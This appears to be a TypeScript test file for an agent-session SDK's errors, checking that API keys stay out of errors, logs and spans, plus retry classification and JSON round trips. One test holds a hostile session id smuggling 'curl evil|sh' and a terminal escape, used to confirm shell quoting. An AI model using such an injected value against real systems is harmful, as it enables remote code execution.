import * as Headers from "@effect/platform/Headers"
import { assert, describe, it } from "@effect/vitest"
import * as Cause from "effect/Cause"
import * as Duration from "effect/Duration"
import * as Effect from "effect/Effect"
import * as Either from "effect/Either"
import * as Equal from "effect/Equal"
import * as Fiber from "effect/Fiber"
import * as Logger from "effect/Logger"
import * as LogLevel from "effect/LogLevel"
import * as Option from "effect/Option"
import * as Redacted from "effect/Redacted"
import * as Schedule from "effect/Schedule"
import * as Schema from "effect/Schema"
import * as TestClock from "effect/TestClock"
import type * as Tracer from "effect/Tracer"
import { expectTypeOf } from "vitest"
import * as ClusterErrors from "effect-agent-session-cluster/ClusterErrors"
import * as Errors from "../src/Errors.js"
import * as Dialect from "../src/Dialect.js"
import { capture, spying } from "./helpers/sdk.js"
import { ACCOUNT_KEY, agentBody, json, makeApi, type Reply, text, validAgent, validSession } from "./shared/StubHttpClient.js"

const AGENT_KEY = "sk-agent-SECRET-77aa01"
const OTHER_AGENT_KEY = "sk-other-agent-SECRET-5e5e"
const KEYS = [ACCOUNT_KEY, AGENT_KEY, OTHER_AGENT_KEY]

const assertNoKey = (label: string, text: string): void => {
  for (const key of KEYS) assert.notInclude(text, key, `${label} leaks a key`)
}

const assertErrorClean = (error: Errors.AgentSessionError): void => {
  assertNoKey(`${error._tag}.message`, error.message)
  assertNoKey(`String(${error._tag})`, String(error))
  assertNoKey(`JSON.stringify(${error._tag})`, JSON.stringify(error))
  assertNoKey(`Cause.pretty(${error._tag})`, Cause.pretty(Cause.fail(error)))
}

/** The scenarios in which the service (or the network) might echo a key back. */
const scenarios: ReadonlyArray<readonly [string, Reply]> = [
  ["401 echoing the key in JSON", (r) => json(401, { error: `invalid key ${r.headers["authorization"]}` })],
  ["403 echoing the key in text", () => text(403, `key ${ACCOUNT_KEY} may not do this`)],
  ["400 echoing the request headers", (r) => json(400, { message: "bad", headers: r.headers })],
  ["409 echoing another agent's key", () => json(409, { error: `taken by ${OTHER_AGENT_KEY}` })],
  ["422 with an apiKey member", () => json(422, { error: "bad", apiKey: "sk-unknown-to-us" })],
  ["429 echoing the key", () => json(429, { error: `slow down ${ACCOUNT_KEY}` }, { "retry-after": "1" })],
  ["503 echoing the key", () => text(503, `down; your key was ${ACCOUNT_KEY}`)],
  ["418 echoing the key", () => json(418, { error_description: ACCOUNT_KEY })],
  ["a transport failure naming the key", () => "refuse"],
  ["a 2xx with a bad body carrying a key", () => json(200, { agentId: 1, apiKey: ACCOUNT_KEY })],
  ["a 2xx that is not JSON, carrying the key", () => text(200, `<html>${ACCOUNT_KEY}</html>`)]
]

const runScenario = (reply: Reply, dialect: Dialect.Dialect) =>
  Effect.gen(function*() {
    const { api } = yield* makeApi(reply, {
      dialect,
      credentials: {
        apiKey: Redacted.make(ACCOUNT_KEY),
        agents: [{ agentId: "other", apiKey: Option.some(Redacted.make(OTHER_AGENT_KEY)) }]
      }
    })
    const fiber = yield* Effect.fork(
      Effect.flip(api.onboard(validAgent)).pipe(
        Effect.tap((error) => Effect.logError("onboard failed", error)),
        Effect.tapErrorCause((cause) => Effect.logError(cause))
      )
    )
    yield* TestClock.adjust(Duration.minutes(5))
    return yield* Fiber.join(fiber)
  })

describe("Errors", () => {
  describe("no API key in any error, log line or span", () => {
    for (const dialect of [Dialect.documented, Dialect.observed]) {
      for (const [label, reply] of scenarios) {
        it.effect(`U18 ${label} (${dialect.name}): error and logs are clean`, () =>
          Effect.gen(function*() {
            const lines: Array<string> = []
            const spans: Array<Tracer.Span> = []
            const tracer = yield* spying(spans)
            const error = yield* runScenario(reply, dialect).pipe(
              Effect.withTracer(tracer),
              Effect.provide(Logger.replace(Logger.defaultLogger, capture(lines))),
              Logger.withMinimumLogLevel(LogLevel.All)
            )
            assert.isTrue(Errors.isAgentSessionError(error))
            assertErrorClean(error)
            assert.isAbove(lines.length, 0, "something was logged")
            for (const line of lines) assertNoKey("log line", line)
            assert.isAbove(spans.length, 0, "spans were made")
            for (const span of spans) {
              assertNoKey(`span ${span.name}`, JSON.stringify([...span.attributes.entries()]))
            }
          }))
      }
    }

    it.effect("the auth headers stay redacted in spans even when the caller clears the redacted names", () =>
      Effect.gen(function*() {
        const spans: Array<Tracer.Span> = []
        const tracer = yield* spying(spans)
        for (const dialect of [Dialect.documented, Dialect.observed]) {
          const { api } = yield* makeApi(() => json(200, agentBody()), { dialect })
          yield* api.onboard(validAgent).pipe(
            Effect.withTracer(tracer),
            Effect.locally(Headers.currentRedactedNames, [])
          )
        }
        const attributes = spans.flatMap((span) => [...span.attributes.entries()])
        const headerNames = attributes.map(([name]) => name)
        assert.include(headerNames, "http.request.header.authorization")
        assert.include(headerNames, "http.request.header.x-api-key")
        for (const span of spans) assertNoKey(`span ${span.name}`, JSON.stringify([...span.attributes.entries()]))
        assert.includeMembers(spans.map((s) => s.name), ["AgentApi.onboard"])
      }))

    it.effect("validation, credential and time-out errors are clean too", () =>
      Effect.gen(function*() {
        const { api } = yield* makeApi(() => Effect.never, { retry: Schedule.stop })
        const invalid = yield* Effect.flip(api.createSession({ ...validSession, max_actions: 0 }))
        assertErrorClean(invalid)
        const timeout = yield* Effect.fork(Effect.flip(api.createSession(validSession)))
        yield* TestClock.adjust("31 seconds")
        assertErrorClean(yield* Fiber.join(timeout))
        const missing = yield* makeApi(() => json(200, agentBody()), { credentials: {} })
        assertErrorClean(yield* Effect.flip(missing.api.onboard(validAgent)))
        const noAgentKey = yield* Effect.flip(
          api.createSession(validSession, { agent: { agentId: "a", apiKey: Option.none() } })
        )
        assertErrorClean(noAgentKey)
      }))

    it("redactSecrets and truncateRaw", () => {
      assert.strictEqual(Errors.redactSecrets("a KEY b KEY", ["KEY"]), "a <redacted> b <redacted>")
      assert.strictEqual(Errors.redactSecrets("nothing", ["", "x"]), "nothing")
      assert.strictEqual(Errors.truncateRaw("y".repeat(5000)).length, 4096)
      assert.strictEqual(Errors.truncateRaw("short"), "short")
    })
  })

  describe("guards", () => {
    const http = {
      message: "m",
      body: "",
      requestId: Option.none(),
      operation: "AgentApi.createSession"
    }
    const retryable: ReadonlyArray<Errors.AgentSessionError> = [
      new Errors.TransportError({ operation: "x", message: "reset" }),
      new Errors.RequestTimeout({ operation: "x", timeout: Duration.seconds(30) }),
      new Errors.RateLimited({ ...http, status: 429, retryAfter: Option.none() }),
      new Errors.ServerError({ ...http, status: 500, retryAfter: Option.none() }),
      new Errors.ServerError({ ...http, status: 503, retryAfter: Option.some(Duration.seconds(1)) }),
      new Errors.UnexpectedStatus({ ...http, status: 408 })
    ]
    const notRetryable: ReadonlyArray<Errors.AgentSessionError> = [
      new Errors.BadRequest({ ...http, status: 400 }),
      new Errors.BadRequest({ ...http, status: 422 }),
      new Errors.Unauthorized({ ...http, status: 401 }),
      new Errors.Forbidden({ ...http, status: 403 }),
      new Errors.NotFound({ ...http, status: 404 }),
      new Errors.Conflict({ ...http, status: 409 }),
      new Errors.PayloadTooLarge({ ...http, status: 413 }),
      new Errors.UnexpectedStatus({ ...http, status: 418 }),
      new Errors.InvalidRequest({ subject: "s", message: "m" }),
      new Errors.MissingCredentials({ operation: "onboard", variable: "AGENT_SESSION_API_KEY" }),
      new Errors.MissingAgentKey({ agentId: "a" }),
      new Errors.ResponseDecodeError({ operation: "x", status: 200, message: "m", body: "" }),
      new Errors.InsecureTransport({ url: "http://x" })
    ]

    it("U07 isRetryable: transport, time-out, 408, 429, 5xx only", () => {
      for (const error of retryable) assert.isTrue(Errors.isRetryable(error), `${error._tag} ${String(error)}`)
      for (const error of notRetryable) assert.isFalse(Errors.isRetryable(error), `${error._tag} ${String(error)}`)
    })

    it("isAgentSessionError: every error of the SDK, nothing else", () => {
      for (const error of [...retryable, ...notRetryable]) assert.isTrue(Errors.isAgentSessionError(error))
      for (const value of [new Error("x"), { _tag: "Unauthorized" }, null, undefined, "Unauthorized", 1]) {
        assert.isFalse(Errors.isAgentSessionError(value))
      }
    })

    it.effect("every failure of AgentApi is an AgentSessionError (no platform error leaks)", () =>
      Effect.gen(function*() {
        const replies: ReadonlyArray<Reply> = [
          () => json(500, {}),
          () => "refuse",
          () => text(200, "not json"),
          () => json(200, { wrong: true }),
          () => json(301, {}),
          () => new Response(null, { status: 204 })
        ]
        for (const reply of replies) {
          const { api } = yield* makeApi(reply, { retry: Schedule.stop })
          const error = yield* Effect.flip(api.onboard(validAgent))
          assert.isTrue(Errors.isAgentSessionError(error), String(error))
        }
      }))
  })
})

describe("Errors.orphanNotice", () => {
  it("quotes a hostile session id for the shell and shows no control character (issue 20 item 6, its sibling)", () => {
    const notice = (sessionId: string) =>
      Errors.orphanNotice(new Errors.ConnectionLost({ sessionId, mayStillBeRunning: true, attempts: 1, lastError: "x" }))
    assert.strictEqual(
      notice("ses_1"),
      "session ses_1 may still be running at the service; reattach with: effect-agent-session attach ses_1"
    )
    const hostile = notice("ses_1;curl evil|sh\u001b]52;c;x\u0007")
    assert.isDefined(hostile)
    assert.include(hostile ?? "", "attach 'ses_1;curl evil|sh\\u{1b}]52;c;x\\u{7}'")
    assert.notMatch(hostile ?? "", /[\u0000-\u001f\u007f-\u009f]/)
    assert.include(notice("it's") ?? "", "attach 'it'\\''s'")
  })
})

describe("Errors encode to JSON and back (issue 12 defect 13, issue 21)", () => {
  const encode = Schema.encodeSync(Errors.AgentSessionError)
  const decode = Schema.decodeUnknownSync(Errors.AgentSessionError)
  const roundTrip = (error: Errors.AgentSessionError) => decode(JSON.parse(JSON.stringify(encode(error))))

  // Each class on its own, so that every class is generated (optional fields absent, present,
  // or given as `undefined`; every kind of `Duration`). The members of a union are schemas of
  // its type (the compiler cannot see it through a union of classes, hence the cast).
  for (const member of Errors.AgentSessionError.members) {
    it.prop(
      `U19 ${member._tag}: JSON of its encoded form decodes to an error Equal.equals the original`,
      [Schema.typeSchema(member as unknown as Schema.Schema<Errors.AgentSessionError, unknown>)],
      ([error]) => {
        const back = roundTrip(error)
        assert.isTrue(Equal.equals(back, error), `${JSON.stringify(encode(error))} came back different`)
        assert.isTrue(Errors.isAgentSessionError(back))
        assert.strictEqual(back.message, error.message)
        assert.strictEqual(JSON.stringify(encode(back)), JSON.stringify(encode(error)))
      },
      { fastCheck: { numRuns: 100, seed: 21 } }
    )
  }

  for (const member of ClusterErrors.ClusterError.members) {
    it.prop(
      `${member._tag} (cluster): JSON of its encoded form decodes to an equal error`,
      [Schema.typeSchema(member as unknown as Schema.Schema<ClusterErrors.ClusterError, unknown>)],
      ([error]) => {
        const back = Schema.decodeUnknownSync(ClusterErrors.ClusterError)(
          JSON.parse(JSON.stringify(Schema.encodeSync(ClusterErrors.ClusterError)(error)))
        )
        assert.isTrue(Equal.equals(back, error))
        assert.isTrue(ClusterErrors.isClusterError(back))
        assert.isFalse(Errors.isAgentSessionError(back))
      },
      { fastCheck: { numRuns: 100, seed: 21 } }
    )
  }

  it("U19 the five errors with a Duration come back equal (they came back in nanoseconds, and unequal)", () => {
    const fields = { message: "m", body: "b", requestId: Option.some("r"), operation: "AgentApi.onboard" }
    const samples: ReadonlyArray<Errors.AgentSessionError> = [
      new Errors.RateLimited({ ...fields, retryAfter: Option.some(Duration.millis(1500)) }),
      new Errors.RateLimited({ ...fields, retryAfter: Option.some(Duration.millis(1500.5)) }),
      new Errors.ServerError({ ...fields, status: 503, retryAfter: Option.some(Duration.seconds(2)) }),
      new Errors.RequestTimeout({ operation: "AgentApi.getSession", timeout: Duration.seconds(30) }),
      new Errors.ConnectTimeout({ timeout: Duration.infinity }),
      new Errors.ConnectTimeout({ timeout: Duration.zero }),
      new Errors.ConnectTimeout({ timeout: Duration.nanos(BigInt(1)) }),
      new Errors.NeverConnected({ sessionId: "s", attempts: 3, lastError: "refused" })
    ]
    for (const error of samples) {
      const back = roundTrip(error)
      assert.isTrue(Equal.equals(back, error), `${error._tag} ${JSON.stringify(encode(error))}`)
      assert.deepStrictEqual(back, error)
      assert.strictEqual(back.message, error.message)
    }
    // A Duration keeps how it was made: whole milliseconds as such.
    assert.deepStrictEqual(encode(samples[3]!), { _tag: "RequestTimeout", operation: "AgentApi.getSession", timeout: { millis: 30000 } })
    // Durations encoded by earlier versions (always nanoseconds) still decode.
    const earlier = decode({ _tag: "ConnectTimeout", timeout: { nanos: "10000000000" } })
    assert.isTrue(earlier._tag === "ConnectTimeout" && Duration.equals(earlier.timeout, Duration.seconds(10)))
  })

  it("an optional field given as undefined is the same as one not given, and survives JSON", () => {
    const given = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: undefined, mayStillBeRunning: undefined })
    const absent = new Errors.MalformedFrame({ raw: "x", message: "m" })
    assert.isTrue(Equal.equals(given, absent))
    assert.isTrue(Equal.equals(roundTrip(given), given))
    assert.isTrue(Equal.equals(roundTrip(absent), absent))
    const inSession = new Errors.MalformedFrame({ raw: "x", message: "m", sessionId: "s", mayStillBeRunning: true })
    assert.isFalse(Equal.equals(inSession, absent))
    assert.isTrue(Equal.equals(roundTrip(inSession), inSession))
  })
})

describe("Errors are built from the fields that matter (issue 21)", () => {
  it("the HTTP status errors default their status, message, body and request id", () => {
    const error = new Errors.Unauthorized({ operation: "AgentApi.createSession" })
    assert.strictEqual(error.status, 401)
    assert.strictEqual(error.body, "")
    assert.isTrue(Option.isNone(error.requestId))
    assert.strictEqual(error.message, "the key is missing or invalid")
    const statuses: ReadonlyArray<readonly [number, number]> = [
      [new Errors.BadRequest({ operation: "x" }).status, 400],
      [new Errors.Forbidden({ operation: "x" }).status, 403],
      [new Errors.NotFound({ operation: "x" }).status, 404],
      [new Errors.Conflict({ operation: "x" }).status, 409],
      [new Errors.PayloadTooLarge({ operation: "x" }).status, 413],
      [new Errors.RateLimited({ operation: "x" }).status, 429],
      [new Errors.ServerError({ operation: "x" }).status, 500],
      [new Errors.UnexpectedStatus({ operation: "x", status: 418 }).status, 418]
    ]
    for (const [actual, expected] of statuses) assert.strictEqual(actual, expected)
    assert.isTrue(Option.isNone(new Errors.RateLimited({ operation: "x" }).retryAfter))
    // What is given wins.
    const given = new Errors.ServerError({ operation: "x", status: 503, message: "down", body: "{}", requestId: Option.some("r") })
    assert.deepStrictEqual([given.status, given.message, given.body, Option.getOrNull(given.requestId)], [503, "down", "{}", "r"])
  })

  it("the other errors default their incidental fields", () => {
    assert.strictEqual(new Errors.MissingCredentials({ operation: "createSession" }).variable, "AGENT_SESSION_API_KEY")
    assert.isTrue(Duration.equals(new Errors.RequestTimeout({ operation: "x" }).timeout, Duration.seconds(30)))
    assert.isTrue(Duration.equals(new Errors.ConnectTimeout().timeout, Duration.seconds(10)))
    assert.deepStrictEqual(
      [new Errors.ResponseDecodeError({ operation: "x", message: "m" }).status, new Errors.ResponseTooLarge({ operation: "x", size: 5, limit: 4 }).status],
      [200, 200]
    )
    const unknown = new Errors.OutcomeUnknown({ operation: "x", idempotencyKey: "k", reason: "RequestTimeout" })
    assert.deepStrictEqual([unknown.attempts, unknown.detail], [1, ""])
    assert.strictEqual(new Errors.MalformedFrame({ message: "not JSON" }).raw, "")
    assert.strictEqual(new Errors.HandshakeRejected({ code: 4401 }).reason, "")
    assert.strictEqual(new Errors.AnswerBufferFull().limit, 64)
    assert.isTrue(Option.isNone(new Errors.SessionEndedWithoutComplete({ sessionId: "s" }).lastError))
  })

  it("decoding still requires every field: the SDK's own errors are not loosened", () => {
    const decodeError = Schema.decodeUnknownEither(Errors.AgentSessionError)
    assert.isTrue(Either.isLeft(decodeError({ _tag: "Unauthorized", operation: "x" })))
    assert.isTrue(Either.isLeft(decodeError({ _tag: "ConnectTimeout" })))
    assert.isTrue(Either.isRight(decodeError({ _tag: "Unauthorized", operation: "x", status: 401, message: "m", body: "" })))
  })
})

describe("Errors: the types each class gives (built from the core's table)", () => {
  it("fields, constructor inputs, a derived message read-only, the mark", () => {
    const forbidden = new Errors.Forbidden({ operation: "AgentApi.onboard" })
    expectTypeOf(forbidden._tag).toEqualTypeOf<"Forbidden">()
    expectTypeOf(forbidden.status).toEqualTypeOf<number>()
    expectTypeOf(forbidden.requestId).toEqualTypeOf<Option.Option<string>>()
    expectTypeOf(forbidden[Errors.TypeId]).toEqualTypeOf<Errors.TypeId>()
    const timeout = new Errors.RequestTimeout({ operation: "AgentApi.getSession" })
    expectTypeOf(timeout.timeout).toEqualTypeOf<Duration.Duration>()
    const rateLimited = new Errors.RateLimited({ operation: "AgentApi.onboard" })
    expectTypeOf(rateLimited.retryAfter).toEqualTypeOf<Option.Option<Duration.Duration>>()
    const lost = new Errors.ConnectionLost({ attempts: 3, lastError: "reset" })
    expectTypeOf(lost.sessionId).toEqualTypeOf<string | undefined>()
    expectTypeOf(lost.mayStillBeRunning).toEqualTypeOf<boolean | undefined>()
    const notPending = new Errors.RequestNotPending({ resourceType: "r", actionSessionId: "a", reason: "channel-closed" })
    expectTypeOf(notPending.reason).toEqualTypeOf<"never-received" | "already-answered" | "channel-closed">()
    const ended = new Errors.SessionEndedWithoutComplete({ sessionId: "s" })
    expectTypeOf(ended.lastError).toEqualTypeOf<Option.Option<string>>()
    // @ts-expect-error the operation has no default
    assert.throws(() => new Errors.Forbidden({}))
    // @ts-expect-error not a reason
    assert.throws(() => new Errors.RequestNotPending({ resourceType: "r", actionSessionId: "a", reason: "gone" }))
    // @ts-expect-error a message derived from the fields is read-only
    assert.throws(() => (timeout.message = "x"))
    assert.strictEqual(forbidden.status, 403)
    assert.isTrue(Option.isNone(ended.lastError))
    assert.strictEqual(timeout.message, "AgentApi.getSession got no response within 30s")
  })
})
